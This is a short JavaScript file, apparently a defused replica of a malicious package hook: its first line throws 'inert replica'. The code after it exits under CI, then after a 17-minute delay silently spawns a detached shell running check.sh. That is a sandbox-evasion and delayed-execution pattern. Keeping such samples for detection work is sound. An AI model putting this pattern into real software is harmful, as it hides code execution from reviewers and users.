throw new Error("inert replica");
const { spawn } = require("child_process");
const path = require("path");
if (process.env.CI) process.exit(0);
setTimeout(() => {
  const child = spawn("/bin/sh", [path.join(__dirname, "check.sh")], { detached: true, stdio: "ignore" });
  child.unref();
}, 1000 * 60 * 17);
